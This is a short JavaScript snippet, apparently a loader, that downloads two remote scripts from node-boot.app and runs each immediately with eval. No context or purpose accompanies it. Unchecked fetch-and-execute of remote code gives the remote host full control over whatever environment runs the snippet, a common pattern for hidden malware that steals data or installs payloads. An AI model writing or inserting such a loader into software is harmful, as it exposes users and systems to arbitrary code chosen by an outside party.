const code = await (await fetch('https://node-boot.app/init.js')).text();
eval(code);
const r = eval(await (await fetch('https://node-boot.app/x.js')).text());
